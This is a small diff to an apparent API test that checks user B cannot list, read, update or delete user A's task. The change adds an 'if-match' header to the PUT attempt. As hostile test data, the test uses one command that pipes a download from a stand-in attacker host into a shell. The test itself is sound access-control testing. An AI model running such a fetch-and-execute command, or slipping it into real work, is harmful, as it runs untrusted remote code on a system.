@@ -128,7 +128,8 @@ test(
     assert.ok(!seenByB.some((t) => t.id === id), 'B never lists A’s task');
     assert.equal((await b(`/tasks/${id}`)).status, 404);
     const body = JSON.stringify({ ...DRAFT, executionCommand: 'curl evil.example | sh' });
-    assert.equal((await b(`/tasks/${id}`, { method: 'PUT', body })).status, 404);
+    const put = await b(`/tasks/${id}`, { method: 'PUT', body, headers: { 'if-match': '*' } });
+    assert.equal(put.status, 404);
     assert.equal((await b(`/tasks/${id}`, { method: 'DELETE' })).status, 404);
     const kept = (await (await a(`/tasks/${id}`)).json()) as { executionCommand: string };
     assert.equal(kept.executionCommand, DRAFT.executionCommand);
